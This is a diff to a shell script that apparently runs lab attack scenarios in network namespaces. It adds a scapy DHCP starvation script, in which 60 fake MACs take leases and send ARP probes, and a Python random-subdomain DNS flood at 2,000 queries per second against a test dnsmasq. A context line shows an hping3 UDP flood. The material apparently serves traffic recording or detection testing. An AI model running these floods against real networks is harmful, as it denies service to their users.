@@ -1881,6 +1881,76 @@ scn_udp_flood_nfs_port_dns_hping3() {
 	inns evil timeout 3 hping3 -q -2 -s 2049 -k -p 53 -E "$tmp/query.bin" -d "$(stat -c %s "$tmp/query.bin")" --flood "$nas" >/dev/null 2>&1 || true
 	local p; for p in $(ip netns pids "$P-nas"); do grep -qa dnsmasq /proc/$p/cmdline 2>/dev/null && kill "$p"; done
 }
+# The same tool as dhcp_starvation_dora_probe_scapy, 60 random locally
+# administered MACs each completing the exchange, but each then probing
+# its lease as RFC 5227 2.1.1 times it (three probes, PROBE_MIN to
+# PROBE_MAX, 1 to 2 s, apart at random) and nothing more: what the
+# boot-storm fixture's devices send (session 21).
+scn_dhcp_starvation_rfc5227_probe_scapy() {
+	pkill_gw_dnsmasq
+	spawn gw dnsmasq -k --no-resolv --no-hosts --interface=eth0 --bind-interfaces --port=0 \
+		--dhcp-range=$NET.130,$NET.250,1h --dhcp-option=3,$NET.1 --dhcp-leasefile="$tmp/dora.leases"
+	sleep 1
+	scapy evil 'import random, select
+s = conf.L2socket(iface="eth0", filter="udp and dst port 68")
+def ask(m, x, typ, extra=[]):
+    s.send(Ether(src=m, dst="ff:ff:ff:ff:ff:ff")/IP(src="0.0.0.0", dst="255.255.255.255")/UDP(sport=68, dport=67)/
+           BOOTP(chaddr=mac2str(m), xid=x, flags=0x8000)/DHCP(options=[("message-type", typ)] + extra + ["end"]))
+clients, probes = {}, []
+for i in range(60):
+    m = "02:%02x:%02x:%02x:%02x:%02x" % tuple(random.getrandbits(8) for _ in range(5))
+    x = random.getrandbits(32)
+    clients[x] = {"mac": m, "state": "discover", "at": time.time()}
+    ask(m, x, "discover"); time.sleep(0.02)
+t0 = time.time()
+while time.time() - t0 < 40 and (probes or any(c["state"] != "done" for c in clients.values())):
+    for x, c in clients.items(): # RFC 2131 4.1: retransmit what went unanswered
+        if c["state"] == "discover" and time.time() - c["at"] > 4: ask(c["mac"], x, "discover"); c["at"] = time.time()
+        if c["state"] == "request" and time.time() - c["at"] > 4: ask(c["mac"], x, "request", c["opts"]); c["at"] = time.time()
+    for pr in [pr for pr in probes if pr[0] <= time.time()]: # RFC 5227 2.1.1: PROBE_NUM probes, PROBE_MIN to PROBE_MAX apart
+        probes.remove(pr); due, m, a, left = pr
+        s.send(Ether(src=m, dst="ff:ff:ff:ff:ff:ff")/ARP(op=1, hwsrc=m, psrc="0.0.0.0", hwdst="00:00:00:00:00:00", pdst=a))
+        if left > 1: probes.append((time.time() + random.uniform(1, 2), m, a, left - 1))
+    if not select.select([s], [], [], 0.05)[0]: continue
+    p = s.recv()
+    if p is None or not p.haslayer(DHCP) or p[BOOTP].xid not in clients: continue
+    c, t = clients[p[BOOTP].xid], dict(o for o in p[DHCP].options if isinstance(o, tuple))
+    if t.get("message-type") == 2 and c["state"] == "discover":
+        c["state"], c["at"], c["opts"] = "request", time.time(), [("requested_addr", p[BOOTP].yiaddr), ("server_id", t["server_id"])]
+        ask(c["mac"], p[BOOTP].xid, "request", c["opts"])
+    elif t.get("message-type") == 6 and c["state"] == "request": # a NAK: back to DISCOVER
+        c["state"], c["at"] = "discover", time.time(); ask(c["mac"], p[BOOTP].xid, "discover")
+    elif t.get("message-type") == 5 and c["state"] == "request":
+        c["state"] = "done"
+        probes.append((time.time() + random.uniform(0, 1), c["mac"], p[BOOTP].yiaddr, 3)) # PROBE_WAIT
+print(sum(c["state"] == "done" for c in clients.values()), "leases")
+time.sleep(22)'
+	pkill_gw_dnsmasq
+	start_gw_dnsmasq
+}
+
+# A random-subdomain ("water torture") flood at the NAS's dnsmasq, which
+# holds the zone victim.lab (--local: NXDOMAIN for any name not in it):
+# python from one socket on the attacker, 2,000 queries a second for 6 s,
+# each a fresh random label of 6 to 12 letters and digits under victim.lab
+# and a random ID, reading the answers as they come (session 21).
+scn_dns_water_torture_python() {
+	spawn nas dnsmasq -k --no-resolv --no-hosts --port=53 --listen-address=$nas --bind-interfaces --local=/victim.lab/ --address=/printer.lab/$nas
+	sleep 1
+	inns evil "$py" -c 'import random, socket, string, struct, time
+abc = (string.ascii_lowercase + string.digits).encode()
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("", 40053)); s.setblocking(False)
+t0, n = time.time(), 0
+while time.time() - t0 < 6:
+    label = bytes(random.choice(abc) for _ in range(random.randint(6, 12)))
+    q = struct.pack(">6H", random.getrandbits(16), 0x0100, 1, 0, 0, 0) + bytes([len(label)]) + label + b"\x06victim\x03lab\x00\x00\x01\x00\x01"
+    s.sendto(q, ("'$nas'", 53)); n += 1
+    try:
+        while True: s.recv(512)
+    except BlockingIOError: pass
+    time.sleep(max(0, n / 2000 - (time.time() - t0)))'
+	local p; for p in $(ip netns pids "$P-nas"); do grep -qa dnsmasq /proc/$p/cmdline 2>/dev/null && kill "$p"; done
+}
 all=$(declare -F | awk '{print $3}' | grep '^scn_' | sed 's/^scn_//')
 for s in ${@:-$all}; do
 	record "$s" "scn_$s"
